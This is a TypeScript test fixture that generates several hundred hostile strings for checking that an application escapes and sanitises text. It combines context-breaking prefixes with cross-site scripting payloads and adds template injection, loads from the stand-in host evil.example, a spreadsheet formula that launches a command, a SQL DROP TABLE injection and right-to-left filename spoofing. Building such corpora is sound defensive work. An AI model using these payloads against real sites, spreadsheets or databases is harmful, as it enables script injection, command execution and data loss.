/** Where a text may land: each beginning ends what a careless page would have put it into. */
const beginnings = [
  '',
  '"',
  "'>",
  '">',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '-->',
  ']]>',
  '`',
  '</text></svg>',
  '"/>',
  '\\">',
  '&quot;>',
]

/** What runs, loads or takes over a page when it is read as markup. `hit` is what the probe looks at. */
const bodies = [
  '<script>window.hit=1</script>',
  '<img src=x onerror=window.hit=1>',
  '<svg/onload=window.hit=1>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<details open ontoggle=window.hit=1>',
  '<video><source onerror=window.hit=1></video>',
  '<input autofocus onfocus=window.hit=1>',
  '<marquee onstart=window.hit=1>',
  '<body onpageshow=window.hit=1>',
  '<object data="//evil.example/o"></object>',
  '<embed src="//evil.example/e">',
  '<img src="//evil.example/i.png">',
  '<link rel=stylesheet href="//evil.example/s.css">',
  '<style>@import "//evil.example/t.css";</style>',
  '<a href="javascript:window.hit=1">a</a>',
  '<form action="//evil.example/f"><button>b</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example/r">',
  '<base href="//evil.example/">',
  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
  '<template><script>window.hit=1</script></template>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.hit=1>#x"/></svg>',
  'x onmouseover=window.hit=1 style=position:fixed;inset:0 y=',
]

/** Texts that harm in other ways: templates, formulas, prototypes, directions of writing, what is no text. */
const others = [
  '{{constructor.constructor("window.hit=1")()}}', '${window.hit=1} #{7*7} <%= 7*7 %>', '{@html "<b>b</b>"}', '{n, plural, one {#} other {#}}',
  'javascript:window.hit=1', 'data:text/html,<script>window.hit=1</script>', 'vbscript:x', '//evil.example/', '\\\\evil.example\\share',
  '=cmd|" /C calc"!A0', '+1+1', '-2', '@SUM(A1)', '\t=1', '__proto__', 'constructor', 'toString', 'hasOwnProperty', "'; DROP TABLE updates; --",
  '%3Cscript%3E \\u003cscript\\u003e', '&lt;script&gt;', '&#x3c;script&#x3e;', '</w:t></w:r></w:p><w:p>', '<![CDATA[x]]>', '<!--', '<?xml version="1.0"?>',
  'Ёлка, ქართული, Հայերեն, 中文, עברית', 'e\u0301\u0301\u0301 \u200b\u200d', 'control \u0001\u0007', 'right \u202egnp.exe', 'line\u2028separator', '<b',
] // prettier-ignore

/** Every beginning before every body, and the others: more than 300. */
export const hostileTexts: readonly string[] = [...beginnings.flatMap((start) => bodies.map((body) => start + body)), ...others]

/** As many of them as have room in one text, from the one with this number on. */
export function joined(from: number, most: number): string {
  let text = ''
  for (let index = from; index < from + hostileTexts.length; index++) {
    const next = `${text} ${hostileTexts[index % hostileTexts.length] ?? ''}`
    if (next.length > most) break
    text = next
  }
  return text === '' ? (hostileTexts[from % hostileTexts.length] ?? '').slice(0, most) : text.trim()
}

/** In how many texts of this length all of them have room. */
export const chunksOf = (most: number) => Math.ceil((hostileTexts.join(' ').length * 1.15) / most)
